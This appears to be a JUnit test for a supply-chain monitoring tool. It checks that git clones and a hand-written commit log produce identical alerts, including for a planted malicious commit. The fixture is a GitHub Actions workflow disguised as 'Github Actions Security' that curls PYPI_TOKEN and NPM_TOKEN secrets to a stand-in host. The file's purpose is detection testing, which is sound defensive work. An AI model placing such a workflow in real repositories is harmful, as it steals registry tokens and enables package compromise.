package dev.pubwatch.cli.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.pubwatch.formats.CredentialHasher;
import dev.pubwatch.formats.Format;
import dev.pubwatch.formats.Formats;
import dev.pubwatch.job.replay.ReplayInput;
import dev.pubwatch.job.replay.ReplayJob;
import dev.pubwatch.job.replay.ReplayOptions;
import dev.pubwatch.job.replay.ReplayProgress;
import dev.pubwatch.job.replay.ReplaySummary;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A clone and a log of the same commits, written by hand, come to the same. */
class GitReplayTest {
  private static final List<String> PEOPLE =
      List.of("ada@example.org", "bob@example.org", "eve@example.org");
  private static final String HOST = "bold-example.203-0-113-9.example.net";
  private static final String THEFT =
      """
      name: Github Actions Security
      on: push
      jobs:
        send-secrets:
          runs-on: ubuntu-latest
          steps:
            - run: |
                curl -s -X POST -d 'a=${{ secrets.PYPI_TOKEN }}&b=${{ secrets.NPM_TOKEN }}' https://%s
      """
          .formatted(HOST);

  @TempDir private Path folder = Path.of("");

  private final List<String> log = new ArrayList<>();
  private final List<String> stolen = new ArrayList<>();

  /** The line that somebody who wrote the log by hand would write. */
  private void write(String repo, String commit, int number, String mail, String op, int refs) {
    ObjectNode line = new ObjectMapper().createObjectNode();
    line.put("source", "git").put("repo", repo).put("commit", commit);
    line.put("parents", number == 1 ? 0 : 1).put("files_changed", 1);
    line.put("author_time", TestRepository.time(number).toString());
    line.put("commit_time", TestRepository.time(number).toString());
    line.put("author_id", mail).put("committer_id", mail);
    line.put("web_or_api_commit", false).put("bot", false);
    var changes = line.putArray("workflow_changes");
    if (!op.isEmpty()) {
      String path = op.substring(op.indexOf(' ') + 1);
      changes.addObject().put("op", op.substring(0, 1)).put("path", path);
      var hosts = line.putArray("workflow_http_hosts");
      if (refs > 0) {
        hosts.add(HOST);
      }
      line.put("workflow_secret_refs", refs).put("workflow_sends_secrets", refs > 0);
    }
    log.add(line.toString());
  }

  private void history(String name) throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("clones").resolve(name));
    String ci = ".github/workflows/ci.yml";
    for (int i = 1; i <= 60; i++) {
      String mail = PEOPLE.get(i % PEOPLE.size());
      boolean workflow = i % 10 == 3;
      String op = workflow ? (i == 3 ? "A " : "M ") + ci : "";
      String commit = repo.commit(mail, Map.of(workflow ? ci : "src/a", "on: push\n# " + i + "\n"));
      write(name, commit, i, mail, op, 0);
    }
    String path = ".github/workflows/github_actions_security.yml";
    String commit = repo.commit(PEOPLE.get(0), Map.of(path, THEFT));
    write(name, commit, 61, PEOPLE.get(0), "A " + path, 2);
    stolen.add("git:" + name + "@" + commit);
  }

  private ReplaySummary replay(String name, List<ReplayInput> inputs) throws Exception {
    return ReplayJob.run(
        ReplayOptions.builder(inputs, new CredentialHasher(new byte[32]))
            .outputs(
                folder.resolve(name + ".alerts").toString(),
                folder.resolve(name + ".scores").toString(),
                null)
            .build(),
        ReplayProgress.NONE);
  }

  @Test
  void aCloneAlertsAsItsLogDoes() throws Exception {
    for (String owner : List.of("acme", "beta", "corp", "delta")) {
      history(owner + "/tool");
    }
    Format format = Formats.byName("git-workflow-log");
    Path file = Files.write(folder.resolve("log.jsonl"), log);
    List<ReplayInput> clones =
        GitClone.find(folder.resolve("clones")).stream()
            .map(clone -> new ReplayInput(format, clone.folder().toString(), at -> clone.open()))
            .toList();
    ReplaySummary byGit = replay("git", clones);
    ReplaySummary byLog = replay("log", List.of(new ReplayInput(format, file.toString())));
    assertEquals(4, byGit.files());
    assertEquals(0, byGit.rejected());
    assertEquals(244, byGit.events());
    assertEquals(byLog.alertsBySeverity(), byGit.alertsBySeverity());
    assertEquals(read("log.scores"), read("git.scores"));
    String alerts = read("git.alerts");
    assertEquals(read("log.alerts"), alerts);
    for (String event : stolen) {
      assertTrue(alerts.contains(event), event + " in " + alerts);
    }
    assertTrue(alerts.lines().allMatch(alert -> alert.contains(HOST)), "nothing else alerts");
  }

  private String read(String name) throws Exception {
    return Files.readString(folder.resolve(name));
  }
}
